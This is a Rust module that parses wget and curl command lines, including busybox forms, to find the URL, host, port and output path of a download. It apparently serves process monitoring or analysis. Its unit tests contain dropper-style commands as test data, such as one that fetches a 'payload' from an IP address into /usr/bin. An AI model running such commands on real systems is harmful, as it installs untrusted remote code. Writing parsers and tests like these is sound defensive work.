//! Downloaders whose command line says which file they write from which URL: `wget -O FILE URL`,
//! `curl -o FILE URL` (and their long forms, `curl -O`, a bare `wget URL`: the URL's last path
//! segment in the working directory).

/// What a downloader's argv says it writes.
#[derive(Clone, Debug, PartialEq)]
pub struct Download {
    pub url: String,
    pub host: String,
    pub port: u16,
    /// As given: absolute, or relative to the process's working directory.
    pub path: String,
}

/// The program an argv runs, by its base name (busybox applets re-exec through /proc/self/exe,
/// so argv[0] is what names them).
fn program(argv: &[String]) -> Option<(&str, &[String])> {
    let first = argv.first()?;
    let name = first.rsplit('/').next().unwrap_or(first);
    if name == "busybox" {
        let (applet, rest) = argv[1..].split_first()?;
        return Some((applet.as_str(), rest));
    }
    Some((name, &argv[1..]))
}

fn parse_url(s: &str) -> Option<(String, u16)> {
    let u = url::Url::parse(s).ok()?;
    if !matches!(u.scheme(), "http" | "https" | "ftp") {
        return None;
    }
    let host = match u.host()? {
        url::Host::Ipv6(a) => a.to_string(),
        h => h.to_string(),
    };
    Some((host, u.port_or_known_default()?))
}

fn last_segment(u: &str) -> Option<String> {
    let u = url::Url::parse(u).ok()?;
    let seg = u.path_segments()?.next_back()?.to_string();
    (!seg.is_empty()).then_some(seg)
}

/// The download an argv describes, when it names exactly one URL and where it goes.
pub fn parse(argv: &[String]) -> Option<Download> {
    let (prog, args) = program(argv)?;
    let (short_out, long_out, remote_name): (&str, &str, Option<&str>) = match prog {
        "wget" => ("-O", "--output-document", None),
        "curl" => ("-o", "--output", Some("-O")),
        _ => return None,
    };
    let mut out: Option<String> = None;
    let mut use_remote_name = prog == "wget";
    let mut urls = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if a == short_out || a == long_out {
            out = args.get(i + 1).cloned();
            i += 2;
            continue;
        }
        if let Some(v) = a.strip_prefix(&format!("{long_out}=")) {
            out = Some(v.to_string());
        } else if let Some(v) = a.strip_prefix(short_out).filter(|v| !v.is_empty()) {
            // `-Ofile`, `-ofile` (a short option glued to its value).
            out = Some(v.to_string());
        } else if remote_name == Some(a.as_str()) || a == "--remote-name" {
            use_remote_name = true;
        } else if parse_url(a).is_some() {
            urls.push(a.clone());
        }
        i += 1;
    }
    let [url] = urls.as_slice() else {
        return None;
    };
    let (host, port) = parse_url(url)?;
    let path = match out {
        // Standard output: nothing is written to a file by the downloader itself.
        Some(o) if o == "-" => return None,
        Some(o) => o,
        None if use_remote_name => last_segment(url)?,
        None => return None,
    };
    Some(Download {
        url: url.clone(),
        host,
        port,
        path,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(s: &str) -> Vec<String> {
        s.split_whitespace().map(str::to_string).collect()
    }

    #[test]
    fn wget_and_curl_forms() {
        let d = parse(&v("wget -q -O /usr/bin/x http://10.0.0.2:8080/payload")).unwrap();
        assert_eq!(
            (d.host.as_str(), d.port, d.path.as_str()),
            ("10.0.0.2", 8080, "/usr/bin/x")
        );
        let d = parse(&v("wget -q http://payload.example/a/tool")).unwrap();
        assert_eq!((d.port, d.path.as_str()), (80, "tool"));
        let d = parse(&v("curl -fsSL -o/opt/t https://h.example/t")).unwrap();
        assert_eq!(
            (d.host.as_str(), d.port, d.path.as_str()),
            ("h.example", 443, "/opt/t")
        );
        let d = parse(&v("curl --output=/y http://[::1]:81/z")).unwrap();
        assert_eq!((d.host.as_str(), d.port), ("::1", 81));
        let d = parse(&v("/bin/busybox wget -O /b http://1.2.3.4/b")).unwrap();
        assert_eq!(d.path, "/b");
        assert_eq!(parse(&v("curl -O http://h/f.tgz")).unwrap().path, "f.tgz");
        assert_eq!(parse(&v("curl http://h/f")), None, "stdout");
        assert_eq!(parse(&v("wget -O - http://h/f")), None, "stdout");
        assert_eq!(
            parse(&v("wget -O /a http://h/f http://h/g")),
            None,
            "two URLs"
        );
        assert_eq!(parse(&v("cp /a /b")), None);
    }
}
